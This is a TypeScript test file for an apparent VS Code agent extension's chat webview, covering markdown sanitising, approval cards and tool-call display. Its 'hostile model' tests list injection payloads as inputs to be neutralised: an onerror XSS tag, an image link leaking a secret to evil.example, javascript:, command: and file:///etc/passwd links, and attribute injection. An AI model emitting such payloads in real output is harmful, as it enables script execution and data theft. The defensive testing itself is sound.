// The model's text cannot act in the webview, and the card shows everything that it must show.
import { renderToString } from 'preact-render-to-string';
import { describe, expect, test } from 'vitest';
import { EMPTY, reduce } from '../../src/chat/reduce';
import type { Folder, View } from '../../src/chat/view';
import type { CallAnswer } from '../../src/contract';
import { markdown } from '../../src/webview/markdown';
import { Meter } from '../../src/webview/meter';
import { rowsOf } from '../../src/webview/rows';
import { RowView } from '../../src/webview/turn';
import { Welcome } from '../../src/webview/welcome';
import { asked, call, completed, events, question, result, started, toolResult, type Sent } from '../events';

function drawn(...all: readonly Sent[]): string {
  return drawnAmong([], ...all);
}

function drawnAmong(folders: readonly Folder[], ...all: readonly Sent[]): string {
  const begun = reduce(EMPTY, asked('<b>hi</b>', folders));
  const view = events(...all).reduce((each, event) => reduce(each, { type: 'event', event }), begun);
  return rowsDrawn(view);
}

function rowsDrawn(view: View): string {
  return renderToString(<>{rowsOf(view).map((row) => <RowView key={row.key} row={row} send={() => undefined} />)}</>);
}

describe('markdown of a hostile model', () => {
  test.each([
    ['HTML', '<img src=x onerror=alert(1)>', '<img'],
    ['an image, which would fetch', '![x](https://evil.example/?q=secret)', '<img'],
    ['a VS Code command', '[x](command:workbench.action.quit)', '<a'],
    ['a script address', '[x](javascript:alert(1))', '<a'],
    ['a file', '[x](file:///etc/passwd)', '<a'],
    ['an editor address', '[x](vscode://a.b/c)', '<a'],
    ['an attribute', '[x](https://a.example "\" onclick=\"alert(1)")', 'onclick="'],
  ])('%s does nothing', (_name, text, forbidden) => { expect(markdown(text)).not.toContain(forbidden); });

  test('a block of code can be copied, and its text is nothing but the code', () => {
    const drawnCode = markdown('```\n<b>a</b>\n```');
    expect(drawnCode).toContain('<button type="button" class="link copy">Copy</button>');
    expect(drawnCode).toContain('&lt;b&gt;a&lt;/b&gt;\n</code>');
    expect(markdown('`inline`')).not.toContain('Copy');
  });

  test('a link to the web says where it leads', () => {
    expect(markdown('[docs](https://example.org/a)')).toContain('title="https://example.org/a"');
  });

  test('an image is a link to it, and only its name inside a link', () => {
    expect(markdown('![a "sum"](https://a.example/p.png)')).toContain('<a href="https://a.example/p.png" title="https://a.example/p.png">a &quot;sum&quot;</a>');
    expect(markdown('[![built](https://a.example/p.png)](https://a.example)').split('<a ')).toHaveLength(2);
    expect(markdown('![x](command:workbench.action.quit)')).not.toContain('<a');
  });

  test('a task has a box', () => {
    const html = markdown('- [ ] one\n- [x] two\n\n[ ] three');
    for (const part of ['☐ one', '☑ two', '[ ] three']) expect(html).toContain(part);
  });

  test('code is highlighted, and escaped where its language is unknown', () => {
    expect(markdown('```python\ndef f(): pass\n```')).toContain('hljs-keyword');
    expect(markdown('```zz\n<script>\n```')).toContain('&lt;script&gt;');
  });
});

describe('the approval card', () => {
  const html = drawn(started, call, question({
    title: 'Edit a\u202E.py\nnow',
    risk: 'high',
    reasons: [{ rule: 'writes-are-reviewed', layer: 'default', action: 'require_review', reason: 'shown first', file: 'p.yaml', line: 3 }],
    diffs: [{ path: 'a.py', diff: '@@ -1 +1 @@\n-<b>\n+c\n', before_digest: null, after_digest: null, created: false, deleted: false, moved_from: null, hunks: 0 }],
    argv: ['sh', '-c', 'rm x'], cwd: 'src', hosts: ['pypi.org', 'a.example:8443'], near: 'p1, port 8123',
  }));

  test('shows what, why, where and how risky, with nothing hidden', () => {
    for (const part of ['Run a command', 'writes-are-reviewed', 'Shown first', 'p.yaml:3', 'high risk',
      "sh -c 'rm x'", '<code>src</code>', 'with network to <code>pypi.org, a.example:8443</code>', '<code>p1, port 8123</code>', '&lt;b>', 'class="add"', 'class="remove"', 'Open diff']) {
      expect(html).toContain(part);
    }
    expect(drawn(started, question({ title: 'edit a\u202E.py\nnow' }))).toContain('>Edit a⟨U+202E⟩.py↵now<');
  });

  test('says of a long command how long it is', () => {
    const lines = (count: number) => Array.from({ length: count }, (_, number) => `echo ${number}`).join('\n');
    expect(drawn(started, call, question({ command: lines(120) }))).toContain('120 lines: scroll to read them all');
    expect(drawn(started, call, question({ command: lines(9) }))).not.toContain('scroll to read');
  });

  test('says of a file that it goes, or where it comes from', () => {
    const diff = { path: 'b.py', diff: '', before_digest: null, after_digest: null, created: false, deleted: false, moved_from: null, hunks: 0 };
    expect(drawn(started, question({ diffs: [{ ...diff, deleted: true }] }))).toContain('>deleted<');
    expect(drawn(started, question({ diffs: [{ ...diff, moved_from: 'a\u202E.py' }] }))).toContain('moved from a⟨U+202E⟩.py');
  });

  test('gives as reasons what asks, not what allows', () => {
    const allow = { rule: 'reads', layer: 'default', action: 'allow', reason: 'reading is allowed', file: null, line: null };
    const ask = { ...allow, rule: 'writes', action: 'require_review', reason: 'file changes need your approval' };
    const both = drawn(started, question({ reasons: [allow, ask] }));
    expect(both).toContain('File changes need your approval');
    expect(both).not.toContain('eading is allowed');
    expect(drawn(started, question({ reasons: [allow] }))).toContain('Reading is allowed');
  });

  test('offers what the server offers, and takes no "allow" before it has been seen', () => {
    expect(html).toMatch(/<button[^>]*disabled[^>]*>Allow once</);
    expect(html).toMatch(/<button[^>]*disabled[^>]*>Allow for session</);
    expect(html).toMatch(/<button type="button" class="secondary">Deny</);
    expect(drawn(started, question({ scopes: ['once'] }))).not.toContain('Allow for session');
  });

  test('says exactly what an answer for the session would remember', () => {
    expect(html).toContain('Allow for session also allows <code>edit_file on a.py</code>');
    expect(drawn(started, question({ scopes: ['once'] }))).not.toContain('Allow for session');
  });

  test('offers an answer for good only with the rule that it writes, as it will stand in the file', () => {
    const rule = '{tool: edit_file, path: "a\\u202E.py"}';
    const scopes = ['once', 'session', 'always', 'everywhere'] as const;
    const everywhere = '{tool: edit_file}';
    const always = drawn(started, question({ scopes, always_rule: rule, everywhere_rule: everywhere }));
    expect(always).toContain(`to your permissions.yaml: <code>${rule.replaceAll('"', '&quot;')}</code>`);
    expect(always).toMatch(/<button[^>]*disabled[^>]*aria-describedby="always-a1"[^>]*>Always allow in this workspace</);
    expect(always).toContain(`in every workspace adds this rule instead, which also applies to projects you have not opened yet: <code>${everywhere}</code>`);
    expect(always).toMatch(/<button[^>]*disabled[^>]*aria-describedby="everywhere-a1"[^>]*>Always allow in every workspace</);
    expect(drawn(started, question({ scopes: ['once', 'session', 'always'], always_rule: rule }))).not.toContain('in every workspace');
    expect(html).not.toContain('Always allow');
    expect(drawn(started, question({ scopes: ['once', 'session', 'always'] }))).not.toContain('Always allow');
    expect(drawn(started, question({ always_rule: rule }))).not.toContain('Always allow');
  });

  test('APP-09 lets a person leave out hunks, where the question is by hunk, and no others', () => {
    const hunks = '@@ -1 +1 @@\n-a\n+b\n@@ -9 +9 @@\n-c\n+d\n';
    const diff = { path: 'a.py', diff: hunks, before_digest: null, after_digest: null, created: false, deleted: false, moved_from: null, hunks: 2 };
    const card = drawn(started, call, question({ by_hunk: true, diffs: [diff, { ...diff, path: 'b.png', diff: '', hunks: 0 }] }));
    expect(card.match(/>Leave out</g)).toHaveLength(3);
    expect(card).toContain('aria-label="Leave out a.py, lines 9–9"');
    expect(card).toContain('aria-label="Leave out b.png"');
    expect(drawn(started, call, question({ diffs: [diff] }))).not.toContain('Leave out');
  });

  test('SES-07 says which session asks, where there are several', () => {
    expect(drawn(started, question({ session_name: 'rename it \u202e' }))).toContain('In the session: rename it ⟨U+202E⟩');
    expect(drawn(started, question())).not.toContain('In the session');
  });

  test('APP-03 says which of its step\'s calls asks, where there are several', () => {
    expect(drawn(started, question({ step_call: 1, step_calls: 3 }))).toContain('Call 1 of 3');
    expect(drawn(started, question())).not.toContain('Call 1 of');
  });

  test('becomes a word on its call once it is resolved', () => {
    const answered: Sent = { kind: 'approval_resolved', approval_id: 'a1', decision: 'deny', scope: 'once', by: 'deadline', reason: null };
    const denied = drawn(started, call, question(), answered, toolResult({ ok: false }));
    expect(denied).toContain('Denied: nobody answered in time');
    expect(denied).toContain('aria-label="denied"');
    expect(denied).not.toContain('Allow once');
    const allowed = drawn(started, call, question(), { ...answered, decision: 'allow', by: 'person' }, toolResult());
    expect(allowed).toMatch(/writes · <b[^>]*>Allowed once by you</);
    expect(drawn(started, question(), answered)).toContain('Denied: nobody answered in time');
  });
});

test('what the person typed is text', () => { expect(drawn(started)).toContain('&lt;b>hi&lt;/b>'); });

describe('the folder of a turn', () => {
  const folder = (name: string, path = `/home/me/${name}`): Folder => ({ name, path });
  const runsIn = (workspace: string): Sent =>
    ({ kind: 'run_started', model: 'built-in', workspace, sent_to: null, resumed: false });
  const shop = runsIn('/home/me/shop');

  test('is named where the window has several', () => {
    const html = drawnAmong([folder('shop'), folder('bank')], shop);
    expect(html).toMatch(/<div [^>]*class="folder"[^>]*>in the folder <b>shop<\/b>/);
    expect(html).toContain('title="/home/me/shop"');
    expect(html).not.toContain('bank');
  });

  test('is not named where there is no other, or before the turn has begun', () => {
    expect(drawnAmong([folder('shop')], shop)).not.toContain('class="folder"');
    expect(drawnAmong([folder('shop'), folder('bank')])).not.toContain('class="folder"');
  });

  test('is a path where its name is another one\'s too, or none of the window\'s', () => {
    expect(drawnAmong([folder('shop'), folder('shop', '/srv/shop')], shop)).toContain('<b>/home/me/shop</b>');
    expect(drawnAmong([folder('shop'), folder('bank')], runsIn('/srv/else'))).toContain('<b>/srv/else</b>');
  });

  test('hides nothing in its name', () => {
    expect(drawnAmong([folder('a\u202Eb', '/w'), folder('bank')], runsIn('/w'))).toContain('<b>a⟨U+202E⟩b</b>');
  });
});

describe('a tool call', () => {
  const ran: Sent = { kind: 'tool_call', tool_call_id: 'c1', tool: 'run_command', intent: 'EXECUTE', arguments: { command: 'sh work.sh' } };
  const printed = (text: string): Sent => ({ kind: 'tool_output', tool_call_id: 'c1', text });
  const exited = (exit_code: number | null, given = {}): Sent =>
    toolResult({ tool: 'run_command', summary: `exit code ${exit_code}`, exit_code, duration_ms: 1_234, ...given });

  test('shows the last lines that its command prints, and offers the rest when it has ended', () => {
    const lines = Array.from({ length: 20 }, (_, number) => `line ${number}`).join('\n');
    const long = printed(`${lines}\na\u202Eb`);
    for (const html of [drawn(started, ran, long), drawn(started, ran, long, exited(0))]) {
      expect(html).toContain('line 19');
      expect(html).not.toContain('line 12\n');
      expect(html).not.toContain('\u202E');
    }
    expect(drawn(started, ran, long)).not.toContain('Show all');
    expect(drawn(started, ran, long, exited(0))).toContain('Show all 21 lines');
    expect(drawn(started, ran, printed('one'), exited(0))).not.toContain('Show all');
    expect(drawn(started, ran, printed('one'), exited(0))).toContain('exit code 0 · 1.2 s');
  });

  test.each<[string, number, string, boolean, boolean]>([
    ['whole', 9, '```\nline 0\nline 1\nline 2\nline 3\nline 4\nline 5\nline 6\nline 7\nline 8\n```', false, false],
    ['in part', 20, '```\nline 0\nline 1\nline 2\nline 3\nline 4\nline 5\nline 6\nline 7\n```\n\n(The rest is left out.)', false, true],
    ['hardly', 20, 'It says `line 0`.', true, true],
  ])('whose output the answer repeats %s shows the rest of it only', (_, lines, answer, last, button) => {
    const all = Array.from({ length: lines }, (_each, number) => `line ${number}`).join('\n');
    const html = drawn(started, ran, printed(all), exited(0), { kind: 'token_delta', text: answer }, completed());
    expect(html.includes('data-testid="printed"')).toBe(last);
    expect(html.includes(`Show all ${lines} lines`)).toBe(button);
  });

  test('that the person typed shows what it printed, and not once more what the model was told', () => {
    const own = reduce(EMPTY, asked('!sh work.sh'));
    const all = events(started, ran, printed('one'), exited(0, { output: 'exit code 0\nstdout:\none' }), completed());
    const html = rowsDrawn(all.reduce((each, event) => reduce(each, { type: 'event', event }), own));
    expect(html).toContain('data-testid="printed"');
    expect(html).not.toContain('<details class="tool ok" open');
  });

  test.each<[string, CallAnswer['by'], CallAnswer['scope'], string]>([
    ['the person', 'person', 'once', 'Allowed once by you'],
    ['an answer given before', 'standing_answer', 'always', 'Always allowed by an answer you gave before'],
  ])('that %s allowed says so, in its line and in its details', (_, by, scope, words) => {
    const answer = { approval_id: 'c1', decision: 'allow', by, scope } as const;
    const html = drawn(started, call, toolResult({ decision: 'review_required', answer }));
    expect(html.split(words)).toHaveLength(3);
  });

  test('whose program says that something went wrong is not marked as done', () => {
    const html = drawn(started, ran, printed('no such file'), exited(3));
    expect(html).toContain('aria-label="failed"');
    expect(html).not.toContain('aria-label="done"');
    for (const part of ['Exit code 3', '1.2 s', 'no such file']) expect(html).toContain(part);
    const error = { code: 'timed_out', message: '', retryable: false, what: 'the command was stopped', why: 'it took 60 s', fix: 'f' } as const;
    const stopped = drawn(started, ran, exited(null, { ok: false, summary: 'the command was stopped: it took 60 s', error }));
    expect(stopped).toContain('aria-label="failed"');
    expect(stopped).toContain('The command was stopped: it took 60 s');
  });

  test('says what its command changed, tried to reach and printed beyond what is kept', () => {
    const html = drawn(started, ran, printed('x'), exited(0, { data: { notes: ['changed: a\u202E.py'], truncated: true } }));
    expect(html).toContain('changed: a⟨U+202E⟩.py');
    expect(html).toContain('The output was too long to keep');
  });

  const ended: Sent = { kind: 'run_completed', result: result({ status: 'failed' }) };

  test('that was refused says what and why in its line, and what the model was told', () => {
    const html = drawn(started, call, toolResult({
      ok: false, decision: 'refused_by_gate', rules: [], output: 'error: declare WRITE_FILE',
      error: { code: 'tool_not_allowed_for_intent', message: '', retryable: true, what: '`edit_file` was refused', why: 'PLAN has no tools', fix: 'f' },
    }));
    for (const part of ['<code>edit_file</code> was refused: PLAN has no tools', 'error: declare WRITE_FILE', 'outside the intent', 'aria-label="not done"']) {
      expect(html).toContain(part);
    }
  });

  test('that nobody was asked about is not told as allowed', () => {
    expect(drawn(started, call, toolResult({ decision: 'review_required', summary: 'it already holds exactly this' }))).not.toContain('Allowed');
  });

  test.each<[string, readonly Sent[]]>([
    ['running', [call]],
    ['waits for you', [call, question()]],
    ['done', [call, toolResult()]],
    ['not finished', [call, ended]],
  ])('%s', (label, sent) => { expect(drawn(started, ...sent)).toContain(`aria-label="${label}"`); });
});

describe('why something was not done', () => {
  const error = { code: 'no_match', message: '', retryable: true, what: 'cannot edit `a.py`', why: '`x` does not occur in it', fix: 'f' } as const;
  const refused = toolResult({ ok: false, error, summary: 'cannot edit `a.py`: `x` does not occur in it' });
  const reason = 'cannot edit `a.py`: `x` does not occur in it';
  const times = (html: string): number => html.replace(/<[^>]*>/g, '').toLowerCase().split('does not occur in it').length - 1;
  const says = (text: string): Sent => ({ kind: 'token_delta', text });

  test.each<[string, readonly Sent[]]>([
    ['its call, in a turn that did something else', [call, refused, says('Half of it.'), completed()]],
    ['the end of the turn', [call, refused, says('I stopped.'), completed({ status: 'declined', reason })]],
    ['the answer', [call, refused, says('I stopped: cannot edit `a.py`: `x` does not occur in it.'), completed({ status: 'declined', reason })]],
    ['the error of the turn', [call, refused, { kind: 'error', error }, completed({ status: 'failed', error, reason })]],
    ['the end of a turn without a call', [says('No.'), completed({ status: 'declined', reason })]],
  ])('is said once, by %s', (_, sent) => { expect(times(drawn(started, ...sent))).toBe(1); });

  test.each([['It failed.', true], ['The command ended with exit code 2.', false]])('AGT-15 the end says how the last program failed unless the answer does: %s', (text, said) => {
    const ran = toolResult({ tool: 'run_command', exit_code: 2, summary: 'exit code 2' });
    const html = drawn(started, call, ran, says(text), completed({ reason: 'the last command failed: exit code 2' }));
    expect(html.includes('the last command failed: exit code 2')).toBe(said);
  });
});

test('a refused call of the person says what helps, and not what the model was told of it', () => {
  const error = { code: 'stale', message: '', retryable: false, what: 'nothing was undone', why: 'a.py was changed since', fix: 'change it by hand' } as const;
  const output = 'error stale: nothing was undone: a.py was changed since';
  const own = (prompt: string): string => rowsDrawn(events(started, call, toolResult({ ok: false, error, summary: 'x', output }), completed({ status: 'failed' }))
    .reduce((each, event) => reduce(each, { type: 'event', event }), reduce(EMPTY, asked(prompt))));
  expect(own('/undo')).toContain('Change it by hand');
  expect(own('/undo')).not.toContain(output);
  expect(own('undo it')).toContain(output);
});

test('code in a warning is drawn as code', () => {
  expect(drawn(started, { kind: 'warning', message: 'the environment sets `X_<b>`' })).toContain('<code>X_&lt;b></code>');
});

describe('an error', () => {
  const error = { code: 'model_unavailable', message: '', retryable: false, what: 'the model `m` is gone', why: 'w', fix: 'f' } as const;
  const failed = events(started, { kind: 'error', error }, completed({ status: 'failed', error }));
  const begun = reduce(EMPTY, asked());
  const view = failed.reduce((each, event) => reduce(each, { type: 'event', event }), begun);

  test('says what, why and fix, with buttons that help', () => {
    const html = rowsDrawn(view);
    for (const part of ['The model <code>m</code> is gone', '>Ask Again<', '>Connect a Model<', '>Show Log<']) expect(html).toContain(part);
  });

  test('of an earlier turn has no buttons any more', () => {
    expect(rowsDrawn(reduce(view, { ...asked(), turn_id: 't2' }))).not.toContain('Ask Again');
  });
});

test('the built-in model is not offered what it cannot do', () => {
  const welcome = (model: string): string => renderToString(<Welcome model={model} samples={[]} fill={() => undefined} chooseModel={() => undefined} />);
  expect(welcome('built-in')).toContain('Connect a model');
  expect(welcome('built-in')).not.toContain('explain how');
  expect(welcome('built-in')).toContain('which files are there');
  expect(welcome('qwen')).toContain('explain how');
});

describe('how a turn ended', () => {
  test.each([
    ['a turn that did nothing is not done', completed({ status: 'declined', reason: 'no such <file>' }), 'Not done · no such &lt;file>', 'codicon-check'],
    ['a no of the person is a denial', completed({ status: 'denied', reason: 'you said no' }), 'Denied · you said no', 'codicon-check'],
    ['a no to one of several changes is told', completed({ reason: 'you said no' }), 'Not all done · you said no', 'codicon-check'],
    ['all that was asked was done', completed(), 'Done', 'Not done'],
  ])('%s', (_name, end, shown, absent) => {
    const html = drawn(started, end);
    expect(html).toContain(shown);
    expect(html).not.toContain(absent);
  });
});

test('a reason that the answer has just told at length is not told again, and code in a reason is drawn as code', () => {
  const reason = 'cannot run the tests with pytest: `pytest` was not found where a sandbox can look';
  const answer: Sent = { kind: 'token_delta', text: `I stopped: ${reason}.` };
  const declined = completed({ status: 'declined', reason });
  expect(drawn(started, answer, declined)).not.toContain('Not done · cannot');
  expect(drawn(started, declined)).toContain('Not done · cannot run the tests with pytest: <code>pytest</code>');
});

test('the result of a call that the person typed is shown at once, after a reload too', () => {
  const usage = { prompt_tokens: 0, cached_tokens: 0, completion_tokens: 0, price_usd: 0 };
  const all = events(started, call, toolResult({ summary: 'undone: a.py' }), completed({ usage }));
  const view = all.reduce((each, event) => reduce(each, { type: 'event', event }), reduce(EMPTY, asked('/undo')));
  expect(rowsDrawn(view)).toContain('undone: a.py');
});

test('a model without tokens has no meter', () => {
  const meter = (used: number): string => renderToString(<Meter view={{ ...EMPTY, context: { used, window: null } }} />);
  expect(meter(0)).toBe('');
  expect(meter(12)).toContain('12 tokens');
});

test('a call of a stored session says why it was not done, as it did while it ran', () => {
  const failed = toolResult({ ok: false, summary: 'cannot look at `a.py`', rules: [], decision: '' });
  expect(drawn(started, call, failed)).toContain('Cannot look at <code>a.py</code>');
});

describe('how a turn ends', () => {
  const changes = [
    { path: 'src/a.py', how: 'changed', moved_from: null, added: 3, removed: 1 },
    { path: 'b\u202e.py', how: 'deleted', moved_from: null, added: 0, removed: 9 },
  ] as const;

  test('AGT-15 the files that it changed open, and the last turn can be taken back', () => {
    const html = drawn(started, completed({ changes, taken_back_by: 'undo' }));
    expect(html).toContain('>src/a.py</button>');
    expect(html).toContain('+3');
    expect(html).toContain('b⟨U+202E⟩.py</span>');
    expect(html).toContain('>Undo</button>');
    expect(drawn(started, completed({ changes }))).not.toContain('Undo');
    expect(drawn(started, completed({ changes, taken_back_by: 'redo' }))).toMatch(/>Redo<\/button>/);
    expect(drawn(started, completed({ changes, taken_back_by: 'redo' }))).not.toContain('>Undo</button>');
  });

  test('AGT-15 a file that a later turn has removed is not offered to open, and one that came back is', () => {
    const turn = (view: View, turn_id: string, how: 'created' | 'deleted'): View => {
      const sent = events(started, call, toolResult({ changed_files: ['new.py'] }), completed({ changes: [{ path: 'new.py', how, moved_from: null, added: 1, removed: 0 }] }));
      return sent.reduce((each, event) => reduce(each, { type: 'event', event: { ...event, turn_id } }), reduce(view, { ...asked(turn_id), turn_id }));
    };
    const offered = (view: View): number => rowsDrawn(view).match(/>Open new\.py<|>new\.py<\/button>/g)?.length ?? 0;
    const made = turn(EMPTY, '1', 'created');
    const undone = turn(made, '2', 'deleted');
    expect([made, undone, turn(undone, '3', 'created')].map(offered)).toEqual([2, 0, 6]);
  });

  test('MOD-29 a yes is a button that says what it would do, until anything else is sent', () => {
    const begun = reduce(EMPTY, asked('get rid of it'));
    const view = events(started, completed({ status: 'declined', suggestion: 'remove line 1 of a\u202e.py' }))
      .reduce((each, event) => reduce(each, { type: 'event', event }), begun);
    expect(rowsDrawn(view)).toMatch(/<button [^>]*aria-label="Yes: remove line 1 of a⟨U\+202E⟩.py"[^>]*>Yes<\/button>/);
    expect(rowsDrawn(reduce(view, { ...asked('/help'), turn_id: 'other' }))).not.toContain('>Yes</button>');
    expect(drawn(started, completed({ status: 'declined' }))).not.toContain('>Yes</button>');
  });
});
